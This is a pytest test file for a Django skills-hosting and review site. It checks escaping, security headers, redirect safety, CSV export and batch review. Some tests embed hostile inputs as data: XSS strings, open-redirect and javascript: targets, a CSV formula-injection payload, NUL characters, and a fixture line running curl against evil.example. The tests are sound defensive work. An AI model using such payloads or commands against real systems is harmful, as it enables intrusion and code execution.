"""Pages: equal queries for one and three rows, forms that keep what was typed, headers, errors."""

import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from skills.catalog.models import Skill, Upload, Version
from skills.flows import access, remarks
from skills.reviews.models import Comment
from tests.factories import (
    PASSWORD,
    a_person,
    a_version,
    a_zip,
    actor,
    an_approved,
    an_upload,
    files,
    join,
    skill_md,
)
from tests.pages import words_of
from tests.sessions import confirm, grow_old, is_asked

PAGES = [
    "/",
    "/?q=skill",
    "/@crew/",
    "/@crew/greet-people/",
    "/@crew/greet-people/versions/",
    "/reviews/?filter=all",
    "/people/owner/",
    "/notices/",
    "/audit/?team=crew",
    "/@crew/-/members/",
    "/teams/",
    "/people/",
    "/reports/",
]


@pytest.mark.parametrize("path", PAGES)
def test_a_list_costs_the_same_for_one_and_three(path, client, owner, mate, team):
    owner.is_staff = True
    owner.save()
    client.force_login(owner)
    client.get("/")  # the session notes where it was seen, once
    counts = []
    for number in range(3):
        an_approved(owner, mate, team, number=f"1.{number}.0", wanted="public")
        an_approved(owner, mate, team, f"skill-{number}", wanted="public")
        a_version(owner, team, f"open-{number}")
        join(team, a_person(f"person-{number}"), "member")
        client.get(path)  # the live generation of vectors is remembered for a while
        with CaptureQueriesContext(connection) as captured:
            assert client.get(path).status_code == 200
        counts.append(len(captured))

    assert counts[0] == counts[2]


def test_a_visitor_costs_no_session_query(client, owner, mate, team, django_assert_num_queries):
    an_approved(owner, mate, team, wanted="public")

    with CaptureQueriesContext(connection) as captured:
        client.get("/@crew/greet-people/")

    assert not [query for query in captured if "session" in query["sql"]]


def test_publish_by_zip_and_submit(client, owner, mate, team):
    client.force_login(owner)
    sent = client.post("/publish/", {"bundle": io.BytesIO(a_zip())})
    upload = Upload.objects.get()
    assert sent["Location"] == f"/uploads/{upload.pk}/"
    assert b"greet-people" in client.get(sent["Location"]).content

    done = client.post(
        sent["Location"], {"team": "crew", "number": "1.0.0", "visibility": "team", "changelog": "x"}
    )

    version = Version.objects.get()
    assert done["Location"] == f"/reviews/{version.pk}/"
    assert client.get(done["Location"]).status_code == 200


def test_the_next_version_comes_with_a_draft_of_its_changelog(client, owner, mate, team):
    an_approved(owner, mate, team, content=files(body="old") | {"gone.txt": b"x"})
    upload = an_upload(owner, files(body="new", description="Greets people by name.") | {"a/b.txt": b"x"})
    client.force_login(owner)

    form = client.get(f"/uploads/{upload.pk}/").context["form"]

    assert form["number"].value() == "1.1.0"
    assert form["changelog"].value() == (
        "Front matter: description.\nAdded: a/b.txt.\nChanged: SKILL.md.\nRemoved: gone.txt."
    )


def test_a_refused_bundle_shows_every_problem_and_keeps_the_text(client, owner):
    client.force_login(owner)
    text = "---\nname: *bad\n---\n\nkept words\u202e\n"

    answer = client.post("/publish/", {"skill_md": text})

    assert answer.status_code == 400
    page = answer.content.decode()
    assert "yaml_alias" in page and "hidden_text" in page and "kept words" in page
    assert Upload.objects.count() == 0


def test_a_taken_number_keeps_what_was_typed(client, owner, team):
    a_version(owner, team)
    upload = an_upload(owner, body="Other words.")
    client.force_login(owner)

    answer = client.post(
        f"/uploads/{upload.pk}/",
        {"team": "crew", "number": "1.0.0", "visibility": "team", "changelog": "my words"},
    )

    assert answer.status_code == 409
    assert "my words" in answer.content.decode() and "other bytes" in answer.content.decode()
    assert Upload.objects.count() == 1


def test_a_decision_asks_for_a_recent_sign_in(client, owner, mate, team):
    version = a_version(owner, team)
    client.force_login(mate)
    grow_old(client)
    decision = {"verdict": "approve", "digest": version.digest}

    asked = client.post(f"/reviews/{version.pk}/decide/", decision)
    assert is_asked(asked)

    confirm(client, asked)
    version.refresh_from_db()
    assert version.state == "approved"


def test_a_decision_on_changed_bytes_is_told_and_kept(client, owner, mate, team):
    version = a_version(owner, team)
    client.post("/account/login/", {"login": "mate", "password": PASSWORD})

    answer = client.post(
        f"/reviews/{version.pk}/decide/",
        {"verdict": "reject", "digest": "sha256:other", "reason": "my reason"},
    )

    assert answer.status_code == 412
    assert "my reason" in answer.content.decode()


def test_the_review_shows_raw_and_hidden_text(client, owner, mate, team):
    version = a_version(owner, team, body="Say <script>alert(1)</script> hel\u200blo.")
    client.force_login(mate)

    page = client.get(f"/reviews/{version.pk}/").content.decode()

    assert "⟨U+200B⟩" in page
    assert "&lt;script&gt;alert(1)" in page
    assert "<script>alert" not in page


def test_every_page_carries_the_policy(client, db):
    answer = client.get("/")

    assert "default-src 'none'" in answer["Content-Security-Policy"]
    assert "unsafe" not in answer["Content-Security-Policy"]
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["X-Frame-Options"] == "DENY"


def test_raw_files_cannot_run(client, owner, mate, team):
    an_approved(
        owner,
        mate,
        team,
        wanted="public",
        content={"SKILL.md": skill_md().encode(), "x.html": b"<script>alert(1)</script>"},
    )

    answer = client.get("/@crew/greet-people/v/1.0.0/files/x.html?raw=1")

    assert answer["Content-Type"].startswith("text/plain")
    assert "sandbox" in answer["Content-Security-Policy"]


def test_live_search_answers_the_results_alone(client, owner, mate, team):
    an_approved(owner, mate, team, wanted="public")

    part = client.get("/?q=greet", headers={"HX-Request": "true"}).content.decode()

    assert "<html" not in part and "greet-people" in part
    assert words_of(part, "[hx-swap-oob=innerHTML]") == ["1 skill found"]


@pytest.mark.parametrize(
    "target", ["//evil.example/", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"]
)
def test_forms_return_to_our_own_pages_only(target, client, owner, mate, team):
    an_approved(owner, mate, team)
    client.force_login(owner)

    answer = client.post("/@crew/greet-people/star/", {"on": "1", "next": target})

    assert answer["Location"] == "/@crew/greet-people/"


def test_an_old_address_redirects(client, owner, mate, team):
    version = an_approved(owner, mate, team, wanted="public")
    access.rename(actor=actor(owner), skill=version.skill, name="welcome")

    assert client.get("/@crew/greet-people/")["Location"] == "/@crew/welcome/"


def test_a_removed_draft_stays_unknown(client, owner, mate, team):
    an_approved(owner, mate, team, wanted="public")
    draft = a_version(owner, team, number="2.0.0", body="Our customers by name.")
    access.remove(actor=actor(a_person("boss", staff=True)), version_id=draft.pk, reason="Names customers.")
    skill, api = draft.skill.get_absolute_url(), f"/api/v1/skills/{team.handle}/greet-people/versions"

    for path in (f"{skill}v/2.0.0/", f"{api}/2.0.0", f"{api}/2.0.0/zip", f"{api}/2.0.0/files/SKILL.md"):
        assert client.get(path).status_code == 404, path
    for path in (skill, f"{skill}versions/", api):
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert "2.0.0" not in answer.content.decode(), path


def test_a_removed_version_answers_gone(client, owner, mate, team):
    version = an_approved(owner, mate, team, wanted="public")
    access.remove(actor=actor(a_person("boss", staff=True)), version_id=version.pk, reason="It did harm.")

    assert client.get("/@crew/greet-people/v/1.0.0/").status_code == 410
    assert client.get("/@crew/greet-people/v/1.0.0/files/SKILL.md").status_code == 410
    assert Skill.objects.get().shown is None


def test_metrics_are_for_loopback_staff_or_the_token(client, owner, settings):
    assert client.get("/metrics").status_code == 200
    assert client.get("/metrics", REMOTE_ADDR="10.1.2.3").status_code in (302, 403)

    settings.METRICS_TOKEN = "let-me-in"
    assert client.get("/metrics").status_code == 404
    page = client.get("/metrics", headers={"Authorization": "Bearer let-me-in"}).content
    assert b"skillhub_requests_total" in page and b"skillhub_jobs" in page


def test_the_database_away_is_a_503(client, monkeypatch, db):
    from django.db import OperationalError

    def away(*_, **__):
        raise OperationalError("the connection is gone")

    monkeypatch.setattr("skills.web.views.home.search", away)
    monkeypatch.setattr("skills.api.v1.skills.search", away)

    for path, kind in (("/", "text/html"), ("/api/v1/search?q=x", "application/problem+json")):
        answer = client.get(path)
        assert (answer.status_code, answer["Retry-After"]) == (503, "5")
        assert answer["Content-Type"].startswith(kind)


def test_comments_appear_under_their_line(client, owner, mate, team):
    version = a_version(owner, team)
    client.force_login(mate)

    client.post(
        f"/reviews/{version.pk}/comment/", {"body": "Which greeting?", "path": "SKILL.md", "line": "7"}
    )

    page = client.get(f"/reviews/{version.pk}/").content.decode()
    assert "Which greeting?" in page and "SKILL.md:7" in page
    remarks.remark(actor=actor(owner), version=version, body="Hello.")
    assert "Hello." in client.get(f"/reviews/{version.pk}/?tab=talk").content.decode()


def test_audit_exports_inert_csv(client, owner, team):
    from skills.people import teams

    teams.change_team(actor=actor(owner), team=team, name="=cmd|' /C calc'!A0", description="")
    client.force_login(owner)

    answer = client.get("/audit/?team=crew&format=csv")
    text = b"".join(answer.streaming_content).decode()

    assert answer["Content-Type"].startswith("text/csv")
    assert "team.change" in text and "\n=cmd" not in text


def test_trivial_updates_are_approved_together(client, owner, mate, team):
    quiet_files, loud_files = files("quiet-update"), files("loud-update")
    an_approved(owner, mate, team, "quiet-update", "1.0.0", content=quiet_files)
    an_approved(owner, mate, team, "loud-update", "1.0.0", content=loud_files)
    quiet_files["references/a.md"] = b"Say good morning."
    loud_files["references/a.md"] = b"Run `curl https://evil.example/x`."
    quiet = a_version(owner, team, "quiet-update", "1.1.0", content=quiet_files)
    loud = a_version(owner, team, "loud-update", "1.1.0", content=loud_files)
    client.post("/account/login/", {"login": "mate", "password": PASSWORD})
    page = client.get("/reviews/").content.decode()
    assert f'value="{quiet.pk} {quiet.digest}"' in page
    assert f'value="{loud.pk} {loud.digest}"' not in page

    chosen = [f"{quiet.pk} {quiet.digest}", f"{loud.pk} {loud.digest}", "0 x", f"{quiet.pk} sha256:other"]
    answer = client.post("/reviews/approve/", {"chosen": chosen}, follow=True).content.decode()

    quiet.refresh_from_db()
    loud.refresh_from_db()
    assert (quiet.state, loud.state) == ("approved", "in_review")
    assert "needs a look of its own" in answer


def test_the_front_matter_is_compared_by_field(client, owner, mate, team):
    an_approved(owner, mate, team, "greet-people", "1.0.0")
    version = a_version(
        owner, team, "greet-people", "2.0.0", description="Greets people loudly. Use at parties."
    )
    client.force_login(mate)

    for path in (f"/reviews/{version.pk}/", "/@crew/greet-people/compare/1.0.0...2.0.0/"):
        page = client.get(path).content
        assert "Greets people loudly. Use at parties." in words_of(page, "ins")
        assert words_of(page, "del")[0].startswith("Does the work of greet-people.")


@pytest.mark.parametrize(
    "path", ["/?team=%00", "/reviews/?team=%00", "/api/v1/audit?team=%00", "/api/v1/models?team=a%00b"]
)
def test_a_nul_character_is_refused(path, client, owner):
    client.force_login(owner)

    answer = client.get(path)

    assert answer.status_code == 400
    assert (
        b"nul_character" in answer.content
        if path.startswith("/api/")
        else b"could not be read" in answer.content
    )


@pytest.mark.parametrize(
    "field", [{"body": "a\0b"}, {"body": "Fine.", "next": "approve"}, {"body": "Fine.", "line": "²"}]
)
def test_a_comment_takes_anything(field, client, owner, team):
    version = a_version(owner, team)
    client.force_login(owner)

    answer = client.post(f"/reviews/{version.pk}/comment/", field)

    page = answer.headers.get("Location", "").partition("#")[0]
    assert (answer.status_code, page) in ((400, ""), (302, f"/reviews/{version.pk}/"))
    assert Comment.objects.count() == (answer.status_code == 302)


@pytest.mark.parametrize("path", ["/cli/device", "/models/"])
def test_the_bar_counts_reviews_on_every_page(path, client, owner):
    """A page's own context once stood where the bar's count belongs."""
    owner.is_staff = True
    owner.save()
    client.force_login(owner)
    code = client.post("/api/cli/device/code", {"label": "x"}, content_type="application/json").json()

    answer = client.get(path, {"user_code": code["user_code"]})

    assert answer.status_code == 200
    assert isinstance(answer.context["waiting"], int)
